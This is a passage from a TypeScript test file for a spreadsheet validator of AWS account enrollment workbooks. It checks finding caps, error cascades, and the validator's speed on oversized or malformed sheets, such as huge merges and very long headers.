    expect(validateWorkbook(edit('Accounts', 2, 2, 'x')).enrollment).toBeNull();
  });

  describe('cost follows the cells present, not the shape of the sheet (hostile inputs)', () => {
    const accountsHeaders = ['Account Name', 'AWS Account Email', 'AWS Account ID', 'Subset Name'];
    const withAccounts = (rows: (Cell | undefined)[][], merges?: string[]): WorkbookInput => {
      const base = validWorkbook();
      const accounts = {
        name: 'Accounts',
        rows: [accountsHeaders.map((h): Cell => ({ type: 'text', value: h })), ...rows],
        ...(merges === undefined ? {} : { merges }),
      };
      return { sheets: base.sheets.map((s) => (s.name === 'Accounts' ? accounts : s)) };
    };

    it(`keeps ${MAX_FINDINGS_PER_KIND} findings of a kind per sheet and counts the rest (findings-omitted)`, () => {
      exercised.add('findings-omitted');
      const rows = Array.from({ length: 3000 }, () => [
        undefined,
        undefined,
        err('#N/A'),
        { type: 'text', value: 'Subset 1' } as Cell,
      ]);
      const all = findings(withAccounts(rows));
      const errorsAtIds = all.filter((f) => f.code === 'cell-error-value' && f.sheet === 'Accounts');
      expect(errorsAtIds).toHaveLength(MAX_FINDINGS_PER_KIND);
      expect(errorsAtIds[0]!.cell).toBe('C2');
      const omitted = all.filter((f) => f.code === 'findings-omitted');
      expect(omitted).toHaveLength(1);
      expect(omitted[0]).toMatchObject({ sheet: 'Accounts', cell: null, severity: 'warning' });
      expect(omitted[0]!.message).toMatch(
        /^And 2,000 more findings of the same kind as the one at C2 \(cell-error-value\) on this sheet, not listed\./,
      );
      // Said after what was kept on its sheet.
      const accountsFindings = all.filter((f) => f.sheet === 'Accounts');
      expect(accountsFindings[accountsFindings.length - 1]!.code).toBe('findings-omitted');
    });

    it('below the cap, nothing is omitted', () => {
      const rows = Array.from({ length: MAX_FINDINGS_PER_KIND }, () => [
        undefined,
        undefined,
        err('#N/A'),
        { type: 'text', value: 'Subset 1' } as Cell,
      ]);
      const all = findings(withAccounts(rows));
      expect(all.filter((f) => f.code === 'cell-error-value')).toHaveLength(MAX_FINDINGS_PER_KIND);
      none(withAccounts(rows), 'findings-omitted');
    });

    // Each of these took from 34 s to minutes (or ran out of memory) before.
    it('20,000 rows with a cell in column XFD only', () => {
      const rows = Array.from({ length: 20_000 }, () => {
        const row: (Cell | undefined)[] = [];
        row[16383] = { type: 'text', value: 'note' };
        return row;
      });
      const all = findings(withAccounts(rows));
      expect(all.filter((f) => f.sheet === 'Accounts').map((f) => f.code)).toEqual(['sheet-no-rows']);
    }, 10_000);

    it('a merge over the whole sheet is one finding, checked as a rectangle', () => {
      const rows = Array.from({ length: 20_000 }, (_, i) => [{ type: 'text', value: `Account ${i}` } as Cell]);
      const all = findings(withAccounts(rows, ['A1:XFD1048576']));
      expect(all.filter((f) => f.code === 'merged-cells').map((f) => `${f.sheet}!${f.cell} ${f.message}`)).toEqual([
        expect.stringMatching(/^Accounts!A1 .*A1:XFD1048576/),
      ]);
    }, 10_000);

    it('a thousand overlapping merges (which Excel never writes) are each reported, and marked once', () => {
      const rows = Array.from({ length: 20_000 }, (_, i) => [{ type: 'text', value: `Account ${i}` } as Cell]);
      const all = findings(
        withAccounts(
          rows,
          Array.from({ length: 1000 }, () => 'A1:D1048576'),
        ),
      );
      expect(all.filter((f) => f.code === 'merged-cells')).toHaveLength(1000);
    }, 10_000);

    it('a header row flooded with 16,384 headers of 32,767 characters: no "did you mean" over them', () => {
      const long = 'x'.repeat(32_767);
      const header: Cell[] = Array.from({ length: 16_384 }, () => ({ type: 'text', value: long }));
      const base = validWorkbook();
      const input = {
        sheets: base.sheets.map((s) => (s.name === 'Accounts' ? { name: 'Accounts', rows: [header] } : s)),
      };
      const missing = findings(input).filter((f) => f.code === 'column-missing' && f.sheet === 'Accounts');
      expect(missing).toHaveLength(4);
      expect(missing.every((f) => f.cell === null)).toBe(true);
    }, 10_000);
  });

  it('every code of the catalog is exercised by a failing case above', () => {
    expect([...Object.keys(CATALOG)].filter((c) => !exercised.has(c as FindingCode))).toEqual([]);
  });
});

describe('no cascades', () => {
  it('a subset whose workflow cell is an error still exists: only that cell is reported', () => {
    const input = withSheet('Subset Workflows', (rows) => setCell(rows, 1, 1, { type: 'error', value: '#REF!' }));
    expect(findings(input).map((f) => `${f.sheet}!${f.cell} ${f.code}`)).toEqual([
      'Subset Workflows!B2 cell-error-value',
    ]);
  });
});
